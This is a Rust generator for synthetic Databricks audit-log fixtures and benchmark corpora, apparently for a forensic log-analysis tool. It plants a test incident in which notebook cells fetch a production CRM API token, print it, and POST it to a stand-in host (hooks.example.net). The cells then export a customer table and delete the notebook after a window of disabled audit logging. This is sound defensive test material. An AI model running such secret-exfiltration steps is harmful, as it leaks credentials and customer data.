//! The committed sample set and the benchmark corpus.

use super::*;
use flate2::Compression;
use flate2::write::GzEncoder;
use std::fs;
use std::io::BufWriter;

const WS_DELIVERED: u64 = 1_234_567_890_123_456;
const WS_SYSTEM: u64 = 2_234_567_890_123_456;
const WS_AZURE: u64 = 3_234_567_890_123_456;

fn at(date: &str, hms: &str) -> i64 {
    let t = chrono::NaiveDateTime::parse_from_str(&format!("{date} {hms}"), "%Y-%m-%d %H:%M:%S%.f")
        .expect("valid literal time");
    t.and_utc().timestamp_millis()
}

impl Generator {
    /// Renames notebook `nb` (as `renameNotebook` at `t`) and returns (id, old path, new path).
    fn rename(
        &mut self,
        t: i64,
        ws: u64,
        nb: usize,
        new_name: &str,
        out: &mut dyn FnMut(Rec),
    ) -> (String, String, String) {
        let old = self.notebooks[nb].path.clone();
        let (parent, old_name) = old.rsplit_once('/').expect("path has a parent");
        let new = format!("{parent}/{new_name}");
        let user = USERS[self.notebooks[nb].owner];
        let id = self.notebooks[nb].id.clone();
        out(self.rec(
            t,
            ws,
            user,
            "notebook",
            "renameNotebook",
            &[
                ("notebookId", id.clone()),
                ("oldName", old_name.to_string()),
                ("newName", new_name.to_string()),
                ("parentPath", parent.to_string()),
            ],
        ));
        self.notebooks[nb].path = new.clone();
        (id, old, new)
    }

    /// The planted incident: returns the cells run, in order.
    fn incident(&mut self, ws: u64, out: &mut dyn FnMut(Rec)) -> (String, Vec<String>) {
        let d = "2024-05-14";
        let u = INCIDENT_USER;
        let id = "4419276310582231".to_string();
        let cl = cluster(ws);
        let mut login = self.rec(
            at(d, "19:01:12"),
            ws,
            u,
            "accounts",
            "login",
            &[("user", u.into())],
        );
        login.ip = "203.0.113.77".into();
        out(login);
        out(self.rec(
            at(d, "19:02:40"),
            ws,
            u,
            "notebook",
            "createNotebook",
            &[
                ("notebookId", id.clone()),
                ("path", INCIDENT_NOTEBOOK.into()),
                ("language", "PYTHON".into()),
            ],
        ));
        out(self.rec(
            at(d, "19:03:05"),
            ws,
            u,
            "notebook",
            "attachNotebook",
            &[
                ("notebookId", id.clone()),
                ("clusterId", cl.clone()),
                ("path", INCIDENT_NOTEBOOK.into()),
            ],
        ));
        let cells: &[(&str, &str, &str, f64)] = &[
            (
                "19:03:51.200",
                "%md\n# churn scratch\nquick look at at-risk accounts",
                "finished",
                0.021,
            ),
            (
                "19:05:10.480",
                "crm_token = dbutils.secrets.get(scope=\"prod-crm\", key=\"crm-api-token\")",
                "finished",
                0.388,
            ),
            (
                "19:05:44.903",
                "print(f\"token is {crm_token}\")",
                "finished",
                0.012,
            ),
            (
                "19:08:02.117",
                "import requests\nresp = requests.post(\"https://hooks.example.net/collect\", json={\"token\": crm_token, \"source\": \"dbx\"}, timeout=10)\nprint(resp.status_code)",
                "finished",
                1.734,
            ),
            (
                "19:12:30.550",
                "customers = spark.table(\"prod.crm.customers\")\ndisplay(customers.limit(20))",
                "finished",
                6.912,
            ),
            (
                "19:20:15.004",
                "customers.toPandas().to_csv(\"/dbfs/tmp/customers_export.csv\", index=False)",
                "finished",
                184.455,
            ),
            (
                "19:21:02.731",
                "dbutils.fs.cp(\"dbfs:/tmp/customers_export.csv\", \"dbfs:/FileStore/tmp/customers_export.csv\")",
                "finished",
                2.310,
            ),
        ];
        let mut codes = Vec::new();
        for (hms, code, status, exec) in cells {
            let t = at(d, hms);
            if code.contains("secrets.get") {
                out(self.rec(
                    t - 150,
                    ws,
                    u,
                    "secrets",
                    "getSecret",
                    &[
                        ("scope", "prod-crm".into()),
                        ("key", "crm-api-token".into()),
                    ],
                ));
            }
            self.command(t, ws, u, &id, &cl, code, "python", *exec, status, out);
            codes.push(code.to_string());
        }
        out(self.rec(
            at(d, "19:31:40"),
            ws,
            u,
            "filesystem",
            "filesGet",
            &[("path", "/FileStore/tmp/customers_export.csv")].map(|(k, v)| (k, v.to_string())),
        ));
        out(self.rec(
            at(d, "19:33:05"),
            ws,
            u,
            "notebook",
            "downloadLargeResults",
            &[
                ("notebookFullPath", INCIDENT_NOTEBOOK.into()),
                ("notebookId", id.clone()),
            ],
        ));
        out(self.rec(
            at(d, "19:35:22"),
            ws,
            u,
            "workspace",
            "workspaceExport",
            &[
                ("workspaceExportFormat", "HTML".into()),
                ("notebookFullPath", INCIDENT_NOTEBOOK.into()),
            ],
        ));
        out(self.rec(
            at(d, "19:40:09"),
            ws,
            u,
            "notebook",
            "detachNotebook",
            &[
                ("notebookId", id.clone()),
                ("clusterId", cl),
                ("path", INCIDENT_NOTEBOOK.into()),
            ],
        ));
        out(self.rec(
            at(d, "19:41:30"),
            ws,
            u,
            "notebook",
            "deleteNotebook",
            &[
                ("notebookId", id.clone()),
                ("path", INCIDENT_NOTEBOOK.into()),
            ],
        ));
        (id, codes)
    }
}

/// Light, deterministic disorder: deliveries are not sorted, so nothing may rely on file order.
fn jitter(rng: &mut ChaCha8Rng, recs: &mut [Rec]) {
    recs.sort_by_key(|r| r.time_ms);
    for i in 1..recs.len() {
        if rng.random_bool(0.1) {
            recs.swap(i - 1, i);
        }
    }
}

/// Writes lines to `path` (gzip when it ends in `.gz`), returning the number of lines.
fn write_lines(path: &Path, lines: &[String]) -> io::Result<u64> {
    if let Some(parent) = path.parent() {
        fs::create_dir_all(parent)?;
    }
    let mut body = String::new();
    for l in lines {
        body.push_str(l);
        body.push('\n');
    }
    if path.extension().is_some_and(|e| e == "gz") {
        // Fixed header mtime so the output is byte-for-byte reproducible.
        let mut enc = flate2::GzBuilder::new()
            .mtime(0)
            .write(Vec::new(), Compression::default());
        enc.write_all(body.as_bytes())?;
        fs::write(path, enc.finish()?)?;
    } else {
        fs::write(path, body)?;
    }
    Ok(lines.len() as u64)
}

/// Writes the sample set into `dir` (which should be empty or hold an earlier sample set) and returns the
/// ground truth, also written as `MANIFEST.json`.
pub fn write_sample_set(dir: &Path, seed: u64) -> io::Result<Truth> {
    let mut g = Generator::new(seed);
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0xD1CE);
    let mut truth = Truth::default();
    let start = NaiveDate::from_ymd_opt(2024, 5, 1).expect("date");
    let days: Vec<NaiveDate> = (0..21).map(|i| start + Duration::days(i)).collect();
    let gap = (at("2024-05-09", "18:12:44"), at("2024-05-11", "09:03:10"));

    // --- Workspace 1: delivered JSON, one file per day (every fourth gzipped). ---
    let mut by_day: BTreeMap<NaiveDate, Vec<Rec>> = BTreeMap::new();
    for d in &days {
        let mut recs = Vec::new();
        let mut out = |r: Rec| recs.push(r);
        if d.to_string() == "2024-05-06" {
            truth.renamed = Some(g.rename(
                at("2024-05-06", "07:31:00"),
                WS_DELIVERED,
                3,
                "adhoc_queries_q2_archive",
                &mut out,
            ));
        }
        g.day(*d, WS_DELIVERED, &[0, 1, 3], &mut out);
        if d.to_string() == "2024-05-09" {
            out(g.rec(
                gap.0,
                WS_DELIVERED,
                GAP_USER,
                "workspace",
                "workspaceConfEdit",
                &[
                    ("workspaceConfKeys", "enableVerboseAuditLogs".into()),
                    ("workspaceConfValues", "false".into()),
                ],
            ));
        }
        if d.to_string() == "2024-05-11" {
            out(g.rec(
                gap.1,
                WS_DELIVERED,
                GAP_USER,
                "workspace",
                "workspaceConfEdit",
                &[
                    ("workspaceConfKeys", "enableVerboseAuditLogs".into()),
                    ("workspaceConfValues", "true".into()),
                ],
            ));
        }
        if d.to_string() == "2024-05-14" {
            let (id, cells) = g.incident(WS_DELIVERED, &mut out);
            truth.incident_notebook_id = id;
            truth.incident_cells = cells;
        }
        // Verbose audit logging off: the workspace emitted no runCommand in the gap.
        recs.retain(|r| !(r.action == "runCommand" && r.time_ms >= gap.0 && r.time_ms < gap.1));
        jitter(&mut rng, &mut recs);
        by_day.insert(*d, recs);
    }
    truth.gap = Some((
        nbtrail_model::format_time(DateTime::from_timestamp_millis(gap.0).unwrap_or_default()),
        nbtrail_model::format_time(DateTime::from_timestamp_millis(gap.1).unwrap_or_default()),
    ));
    let mut valid = 0u64;
    for (i, (d, recs)) in by_day.iter().enumerate() {
        let ext = if i % 4 == 3 { "json.gz" } else { "json" };
        let rel = format!(
            "delivered/workspaceId={WS_DELIVERED}/date={d}/auditlogs_{:08x}.{ext}",
            d.to_string().len() as u64 * 0x1f3d + i as u64 * 0x9e37
        );
        let mut lines: Vec<String> = recs.iter().map(delivered).collect();
        valid += lines.len() as u64;
        let mut bad = Vec::new();
        if d.to_string() == "2024-05-03" {
            // A torn write: the line ends mid-record.
            let cut = lines[10][..lines[10].len() / 2].to_string();
            lines.insert(11, cut);
            bad.push(12);
        }
        if d.to_string() == "2024-05-16" {
            let mut v: Value = serde_json::from_str(&lines[4]).expect("own json");
            v["timestamp"] = Value::String("n/a".into());
            lines.insert(5, v.to_string());
            bad.push(6);
        }
        truth
            .records
            .insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);
        if !bad.is_empty() {
            truth.malformed.insert(rel.clone(), bad);
        }
        if d.to_string() == "2024-05-07" {
            // The same day's records delivered a second time under another name.
            let rel2 = format!(
                "delivered/workspaceId={WS_DELIVERED}/date={d}/auditlogs_{:08x}-redelivered.json",
                0xfeed_u32
            );
            let dup: Vec<String> = recs.iter().map(delivered).collect();
            truth.duplicates += dup.len() as u64;
            valid += dup.len() as u64;
            truth
                .records
                .insert(rel2.clone(), write_lines(&dir.join(&rel2), &dup)?);
        }
    }

    // --- Workspace 2: system.access.audit exports, JSON lines (1–12 May) and CSV (10–21 May). ---
    let mut ws2: Vec<Rec> = Vec::new();
    for d in &days {
        g.day(*d, WS_SYSTEM, &[2, 4], &mut |r| ws2.push(r));
    }
    jitter(&mut rng, &mut ws2);
    let split_json = at("2024-05-13", "00:00:00");
    let split_csv = at("2024-05-10", "00:00:00");
    let json_part: Vec<&Rec> = ws2.iter().filter(|r| r.time_ms < split_json).collect();
    let csv_part: Vec<&Rec> = ws2.iter().filter(|r| r.time_ms >= split_csv).collect();
    truth.duplicates += ws2
        .iter()
        .filter(|r| r.time_ms >= split_csv && r.time_ms < split_json)
        .count() as u64;
    let mut lines: Vec<String> = json_part.iter().map(|r| system_table(r)).collect();
    valid += lines.len() as u64;
    let mut v: Value = serde_json::from_str(&lines[20]).expect("own json");
    v.as_object_mut().expect("object").remove("service_name");
    lines.insert(21, v.to_string());
    let rel = "system-table/audit_2024-05-01_2024-05-12.jsonl".to_string();
    truth.malformed.insert(rel.clone(), vec![22]);
    truth
        .records
        .insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);

    let mut rows = vec![CSV_HEADER.join(",")];
    let mut row_line = vec![1u64];
    let mut next_line = 2u64;
    let mut csv_bad = Vec::new();
    for (i, r) in csv_part.iter().enumerate() {
        if i == 30 {
            rows.push("a1b2c3d4-0000-4000-8000-00000000acc1,2234567890123456,2.0".into());
            row_line.push(next_line);
            csv_bad.push(next_line);
            next_line += 1;
        }
        let row = system_table_csv(r);
        let physical = 1 + row.matches('\n').count() as u64;
        rows.push(row);
        row_line.push(next_line);
        next_line += physical;
    }
    valid += csv_part.len() as u64;
    let rel = "system-table/audit_2024-05-10_2024-05-21.csv".to_string();
    write_lines(&dir.join(&rel), &rows)?;
    truth.records.insert(rel.clone(), rows.len() as u64 - 1);
    truth.malformed.insert(rel, csv_bad);

    // The whole workspace-2 export once more as Parquet (`df.write.parquet`), row groups of 250 rows:
    // every row repeats an event of the JSON or CSV export.
    let rel = "system-table/parquet/part-00000-audit.snappy.parquet".to_string();
    let all: Vec<&Rec> = ws2.iter().collect();
    write_system_table_parquet(&dir.join(&rel), &all, 250)?;
    truth.records.insert(rel, all.len() as u64);
    truth.duplicates += all.len() as u64;
    valid += all.len() as u64;

    // Workspace 2's SQL statements once more, as `system.query.history` rows (JSON lines): the same statement
    // ids as the audit log's command ids, so each statement stays one cell (the history row, which knows
    // status, duration and rows). And `system.access.table_lineage` (CSV): the tables those statements read,
    // plus the incident notebook's read of the customer table.
    let mut history = Vec::new();
    let mut lineage = vec![LINEAGE_HEADER.join(",")];
    let submits: Vec<&Rec> = ws2.iter().filter(|r| r.action == "commandSubmit").collect();
    for r in &submits {
        let f = statement_finish(r);
        let t = |ms: i64| {
            DateTime::from_timestamp_millis(ms)
                .unwrap_or_default()
                .format("%Y-%m-%dT%H:%M:%S%.3fZ")
                .to_string()
        };
        let sql = &r.params["commandText"];
        history.push(
            json!({
                "account_id": "a1b2c3d4-0000-4000-8000-00000000acc1",
                "workspace_id": r.workspace_id.to_string(),
                "statement_id": r.params["commandId"],
                "session_id": r.web_session,
                "execution_status": if f.status_code == 200 { "FINISHED" } else { "FAILED" },
                "compute": {"type": "WAREHOUSE", "cluster_id": null, "warehouse_id": r.params["warehouseId"]},
                "executed_by_user_id": format!("{}", r.user.len() * 7919),
                "executed_by": r.user,
                "statement_text": sql,
                "statement_type": "SELECT",
                "error_message": f.error,
                "client_application": "Databricks SQL Editor",
                "client_driver": null,
                "total_duration_ms": f.time_ms - r.time_ms,
                "read_rows": if f.status_code == 200 { 1000 + (f.time_ms - r.time_ms) } else { 0 },
                "produced_rows": if f.status_code == 200 { 10 + (f.time_ms - r.time_ms) % 990 } else { 0 },
                "start_time": t(r.time_ms),
                "end_time": t(f.time_ms),
                "update_time": t(f.time_ms),
                "query_source": {"notebook_id": null, "job_info": null, "dashboard_id": null, "sql_query_id": null},
            })
            .to_string(),
        );
        let table = sql
            .split_whitespace()
            .skip_while(|w| !w.eq_ignore_ascii_case("FROM"))
            .nth(1)
            .unwrap_or("unknown");
        lineage.push(lineage_row(
            r.workspace_id,
            "DBSQL_QUERY",
            &r.params["commandId"],
            table,
            "",
            &r.user,
            f.time_ms,
            "",
        ));
    }
    valid += history.len() as u64;
    truth.query_history_rows = history.len() as u64;
    let rel = "system-table/query-history/query_history_2024-05.jsonl".to_string();
    truth
        .records
        .insert(rel.clone(), write_lines(&dir.join(&rel), &history)?);
    let incident_read = at("2024-05-14", "19:12:30.550");
    lineage.push(lineage_row(
        WS_DELIVERED,
        "NOTEBOOK",
        "4419276310582231",
        "prod.crm.customers",
        "",
        INCIDENT_USER,
        incident_read,
        "4419276310582231",
    ));
    lineage.push(lineage_row(
        WS_DELIVERED,
        "NOTEBOOK",
        "4419276310582231",
        "prod.crm.customers",
        "dbfs:/tmp/customers_export.csv",
        INCIDENT_USER,
        // While the cell that wrote the CSV ran (it finished at 19:20:15 after 184 s).
        at("2024-05-14", "19:19:58.000"),
        "4419276310582231",
    ));
    truth.lineage_rows = lineage.len() as u64 - 1;
    valid += truth.lineage_rows;
    let rel = "system-table/lineage/table_lineage_2024-05.csv".to_string();
    write_lines(&dir.join(&rel), &lineage)?;
    truth.records.insert(rel, truth.lineage_rows);

    // --- Workspace 3: Azure diagnostic logs, JSON lines (1–10 May) and a JSON array (11–21 May). ---
    let mut ws3: Vec<Rec> = Vec::new();
    for d in &days {
        g.day(*d, WS_AZURE, &[1, 4], &mut |r| ws3.push(r));
    }
    jitter(&mut rng, &mut ws3);
    let split = at("2024-05-11", "00:00:00");
    let (first, second): (Vec<&Rec>, Vec<&Rec>) = ws3.iter().partition(|r| r.time_ms < split);
    let mut lines: Vec<String> = first
        .iter()
        .enumerate()
        .map(|(i, r)| azure(r, i % 5 != 0))
        .collect();
    valid += lines.len() as u64;
    lines.insert(
        40,
        "<html><body>503 Service Unavailable</body></html>".into(),
    );
    let rel = "azure/DatabricksNotebook_2024-05-01_2024-05-10.jsonl".to_string();
    truth.malformed.insert(rel.clone(), vec![41]);
    truth
        .records
        .insert(rel.clone(), write_lines(&dir.join(&rel), &lines)?);

    // The array: pretty-printed elements (several lines each), one with an unparseable time.
    let mut body = String::from("[\n");
    let mut line = 2u64;
    let mut bad = Vec::new();
    let mut elements: Vec<Value> = second
        .iter()
        .enumerate()
        .map(|(i, r)| azure_value(r, i % 5 != 0))
        .collect();
    valid += elements.len() as u64;
    let mut broken = elements[15].clone();
    broken["TimeGenerated"] = Value::String("13/05/2024 25:61".into());
    elements.insert(16, broken);
    let n = elements.len();
    for (i, el) in elements.iter().enumerate() {
        if i == 16 {
            bad.push(line);
        }
        let text = serde_json::to_string_pretty(el).expect("json");
        let text = text.replace('\n', "\n  ");
        body.push_str("  ");
        body.push_str(&text);
        if i + 1 < n {
            body.push(',');
        }
        body.push('\n');
        line += 1 + text.matches('\n').count() as u64;
    }
    body.push_str("]\n");
    let rel = "azure/DatabricksNotebook_2024-05-11_2024-05-21.json".to_string();
    fs::create_dir_all(dir.join("azure"))?;
    fs::write(dir.join(&rel), body)?;
    truth.records.insert(rel.clone(), n as u64);
    truth.malformed.insert(rel, bad);

    // Workspace 3 again, as its diagnostic setting streams it: 1–10 May as `{"records":[…]}` batches one per
    // line (what Event Hubs consumers land in storage); 11–21 May as an Event Hubs Capture Avro file whose
    // event bodies are those batches, one body holding a record whose time cannot be read.
    let mut batch_lines = Vec::new();
    for chunk in first.chunks(25) {
        let records: Vec<Value> = chunk.iter().map(|r| azure_resource_log(r)).collect();
        batch_lines.push(json!({ "records": records }).to_string());
    }
    valid += first.len() as u64;
    truth.duplicates += first.len() as u64;
    let rel = "azure/insights-logs-notebook/records_2024-05-01_2024-05-10.json".to_string();
    write_lines(&dir.join(&rel), &batch_lines)?;
    truth.records.insert(rel, first.len() as u64);

    let mut bodies = Vec::new();
    let mut bad_events = Vec::new();
    let mut in_capture = 0u64;
    for (i, chunk) in second.chunks(40).enumerate() {
        let mut records: Vec<Value> = chunk.iter().map(|r| azure_resource_log(r)).collect();
        if i == 2 {
            let mut broken = records[7].clone();
            broken["time"] = Value::String("2024-05-13 25:61".into());
            broken["properties"]["requestId"] = Value::String("torn-record".into());
            records.insert(8, broken);
            bad_events.push(i as u64 + 1);
        }
        in_capture += records.len() as u64;
        let enqueued = chunk.last().map_or(0, |r| r.time_ms) + 1_500;
        bodies.push((
            enqueued,
            json!({ "records": records }).to_string().into_bytes(),
        ));
    }
    valid += second.len() as u64;
    truth.duplicates += second.len() as u64;
    let rel = "event-hubs/nbtrail-ns/databricks-audit/0/2024/05/11/00/00/00.avro".to_string();
    write_event_hubs_capture(&dir.join(&rel), &bodies)?;
    truth.records.insert(rel.clone(), in_capture);
    truth.malformed.insert(rel, bad_events);

    truth.unique_events = valid - truth.duplicates;
    let mut commands = 0;
    for r in by_day
        .values()
        .flatten()
        .chain(ws2.iter())
        .chain(ws3.iter())
    {
        if r.action == "runCommand" {
            commands += 1;
        }
    }
    truth.commands = commands;
    // SQL warehouse work: statements per (warehouse, user), split where two submits are more than the
    // default idle gap (2 h) apart — the sessions the case must show.
    let mut statements: BTreeMap<(String, String), Vec<i64>> = BTreeMap::new();
    for r in by_day
        .values()
        .flatten()
        .chain(ws2.iter())
        .chain(ws3.iter())
    {
        if r.action == "commandSubmit" {
            truth.warehouse_statements += 1;
            statements
                .entry((r.params["warehouseId"].clone(), r.user.clone()))
                .or_default()
                .push(r.time_ms);
        }
        if r.action == "commandFinish" && r.status_code != 200 {
            truth.warehouse_failed += 1;
        }
    }
    for times in statements.values_mut() {
        times.sort_unstable();
        truth.warehouse_sessions += 1 + times
            .windows(2)
            .filter(|w| w[1] - w[0] > 2 * 60 * 60 * 1000)
            .count() as u64;
    }
    fs::write(
        dir.join("MANIFEST.json"),
        serde_json::to_string_pretty(&truth).expect("json") + "\n",
    )?;
    Ok(truth)
}

/// Columns of the `system.access.table_lineage` CSV export.
const LINEAGE_HEADER: &[&str] = &[
    "account_id",
    "metastore_id",
    "workspace_id",
    "entity_type",
    "entity_id",
    "entity_run_id",
    "source_table_full_name",
    "source_type",
    "target_table_full_name",
    "target_type",
    "target_path",
    "created_by",
    "event_time",
    "event_date",
    "entity_metadata",
];

/// One lineage row (CSV): `target` is a table name, or a path when it has a scheme.
#[allow(clippy::too_many_arguments)]
fn lineage_row(
    ws: u64,
    entity_type: &str,
    entity_id: &str,
    source: &str,
    target: &str,
    user: &str,
    time_ms: i64,
    notebook: &str,
) -> String {
    let t = DateTime::from_timestamp_millis(time_ms).unwrap_or_default();
    let (target_table, target_path) = if target.contains(':') {
        ("", target)
    } else {
        (target, "")
    };
    let meta = if notebook.is_empty() {
        String::new()
    } else {
        json!({"notebook_id": notebook, "job_info": null}).to_string()
    };
    [
        "a1b2c3d4-0000-4000-8000-00000000acc1".to_string(),
        "0f1e2d3c-0000-4000-8000-0000000000ms".into(),
        ws.to_string(),
        entity_type.into(),
        entity_id.into(),
        format!("{entity_id}-run"),
        source.into(),
        "TABLE".into(),
        target_table.into(),
        if target.is_empty() {
            ""
        } else if target_path.is_empty() {
            "TABLE"
        } else {
            "PATH"
        }
        .into(),
        target_path.into(),
        user.into(),
        t.format("%Y-%m-%d %H:%M:%S%.3f").to_string(),
        t.format("%Y-%m-%d").to_string(),
        meta,
    ]
    .iter()
    .map(|f| csv_field(f))
    .collect::<Vec<_>>()
    .join(",")
}

/// Which shape a benchmark corpus is written in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum BenchShape {
    /// Shape A.
    Delivered,
    /// Shape B (JSON lines).
    SystemTable,
    /// Shape C (JSON lines).
    Azure,
    /// Shape B as Parquet (row groups of 10,000 rows).
    SystemTableParquet,
    /// Shape C as Azure diagnostic settings stream it: resource logs, JSON lines.
    AzureResourceLog,
    /// Those resource logs as an Event Hubs Capture Avro file, `{"records":[…]}` bodies of 100.
    EventHubsCapture,
}

/// Streams at least `events` records (whole days; the exact count is returned) to `path` in `shape`,
/// gzip-compressed when the name ends in `.gz`. Memory stays constant.
pub fn write_bench(path: &Path, events: u64, seed: u64, shape: BenchShape) -> io::Result<u64> {
    if matches!(
        shape,
        BenchShape::SystemTableParquet | BenchShape::EventHubsCapture
    ) {
        // Columnar containers are written whole from the records in memory (benchmark sizes only).
        let mut g = Generator::new(seed).varied();
        let mut recs = Vec::new();
        let mut day = NaiveDate::from_ymd_opt(2020, 1, 1).expect("date");
        while (recs.len() as u64) < events {
            g.day(day, WS_DELIVERED, &[0, 1, 2, 3, 4], &mut |r| recs.push(r));
            day += Duration::days(1);
        }
        if shape == BenchShape::SystemTableParquet {
            let all: Vec<&Rec> = recs.iter().collect();
            write_system_table_parquet(path, &all, 10_000)?;
        } else {
            let bodies: Vec<(i64, Vec<u8>)> = recs
                .chunks(100)
                .map(|c| {
                    let records: Vec<Value> = c.iter().map(azure_resource_log).collect();
                    (
                        c.last().map_or(0, |r| r.time_ms),
                        json!({ "records": records }).to_string().into_bytes(),
                    )
                })
                .collect();
            write_event_hubs_capture(path, &bodies)?;
        }
        return Ok(recs.len() as u64);
    }
    let file = fs::File::create(path)?;
    let mut w: Box<dyn Write> = if path.extension().is_some_and(|e| e == "gz") {
        Box::new(BufWriter::new(GzEncoder::new(file, Compression::fast())))
    } else {
        Box::new(BufWriter::with_capacity(1 << 20, file))
    };
    let mut g = Generator::new(seed).varied();
    let mut n = 0u64;
    let mut day = NaiveDate::from_ymd_opt(2020, 1, 1).expect("date");
    let mut err: io::Result<()> = Ok(());
    while n < events {
        g.day(day, WS_DELIVERED, &[0, 1, 2, 3, 4], &mut |r| {
            if err.is_ok() {
                let line = match shape {
                    BenchShape::Delivered => delivered(&r),
                    BenchShape::SystemTable => system_table(&r),
                    BenchShape::Azure => azure(&r, true),
                    BenchShape::AzureResourceLog => azure_resource_log(&r).to_string(),
                    BenchShape::SystemTableParquet | BenchShape::EventHubsCapture => {
                        unreachable!("written above")
                    }
                };
                err = writeln!(w, "{line}");
                n += 1;
            }
        });
        err.as_ref()
            .map_err(|e| io::Error::new(e.kind(), e.to_string()))?;
        day += Duration::days(1);
    }
    w.flush()?;
    Ok(n)
}
